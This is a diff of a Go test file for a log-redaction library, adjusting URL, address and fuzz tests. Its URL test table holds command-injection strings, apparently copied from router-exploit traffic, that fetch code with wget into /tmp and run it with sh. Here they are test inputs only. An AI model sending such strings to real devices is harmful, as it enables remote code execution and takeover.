@@ -163,6 +163,7 @@ func TestURL(t *testing.T) {
 		"http://example.org/x?token=1&a=2#b":  "http://example.org/x?token=***&a=2#b",
 		"http://u:a@example.org/?password=x":  "http://u:***@example.org/?password=***",
 		"/cgi-bin/luci/;stok=/locale?form=x1": "/cgi-bin/luci/;stok=/locale?form=x1",
+		"/x//a:b/c":                           "/x//a:b/c", "/?cd+/tmp;wget+http://192.0.2.1:80;+sh": "/?cd+/tmp;wget+http://192.0.2.1:80;+sh",
 		"/shell?cd+/tmp;wget+http://1.2.3.4/": "/shell?cd+/tmp;wget+http://1.2.3.4/",
 	} {
 		if got := URL(in); got != want {
@@ -201,12 +202,16 @@ func TestLocalPartsOfEveryForm(t *testing.T) {
 	const local = "zq7xvictim"
 	hidden := base64.RawStdEncoding.EncodeToString([]byte("xzq7xvictim"))[4:10]
 	for _, text := range addresses(local) {
+		if got := QueryAddresses("/x?a=1&to=" + text); strings.Contains(got, local) && strings.Contains(text, "@example.org") && !strings.ContainsAny(text, "\" ()") ||
+			strings.Contains(text, "64;example") && strings.Contains(got, local) {
+			t.Errorf("in a query %q is shown as %q", text, got)
+		}
 		for name, got := range map[string]string{
-			"shown": Addresses("x: " + text), "raw": string(Options{}.Bytes([]byte(text))), "json": string(Options{}.Bytes([]byte(fmt.Sprintf(`{"a":%s}`, jsonText(text))))),
+			"shown": Addresses(SMTP, "x: "+text), "raw": string(Options{}.Bytes([]byte(text))), "json": string(Options{}.Bytes([]byte(fmt.Sprintf(`{"a":%s}`, jsonText(text))))),
 			"records": string(Options{}.Records(packed(t, map[string]any{"log": text}))),
 		} {
 			if name == "shown" && (strings.HasPrefix(strings.ToLower(text), "rcpt") || strings.HasPrefix(text, "VRFY")) {
-				got = Addresses(text)
+				got = Addresses(SMTP, text)
 			}
 			if strings.Contains(got, local) || strings.Contains(strings.ReplaceAll(got, "\x00", ""), local) || strings.Contains(got, hidden) {
 				t.Errorf("%s: %q is shown as %q", name, text, got)
@@ -304,7 +309,7 @@ func TestLinear(t *testing.T) {
 			text := strings.Repeat(unit, n/len(unit))
 			start := time.Now()
 			Command(Any, text)
-			Addresses(text)
+			Addresses(SMTP, text)
 			URL(text)
 			Options{Secrets: true}.Bytes([]byte(text))
 			Options{Secrets: true}.Records([]byte(text))
@@ -334,7 +339,7 @@ func FuzzRedact(f *testing.F) {
 		}
 		p := Protocol(protocol) % (SQL + 1)
 		for name, hide := range map[string]func(string) string{
-			"Command": func(s string) string { return Command(p, s) }, "URL": URL, "Addresses": Addresses, "QueryAddresses": QueryAddresses,
+			"Command": func(s string) string { return Command(p, s) }, "URL": URL, "Addresses": func(s string) string { return Addresses(p, s) }, "QueryAddresses": QueryAddresses,
 		} {
 			got := hide(text)
 			if len(got) > 3*len(text) {
@@ -351,7 +356,7 @@ func FuzzRedact(f *testing.F) {
 			if len(got) != len(text) {
 				t.Fatalf("%s: %q became %q", name, text, got)
 			}
-			if json.Valid([]byte(text)) && !json.Valid(got) {
+			if structured([]byte(text)) && strings.HasPrefix(name, "Bytes") && !json.Valid(got) {
 				t.Fatalf("%s: %q is no JSON any more: %q", name, text, got)
 			}
 		}
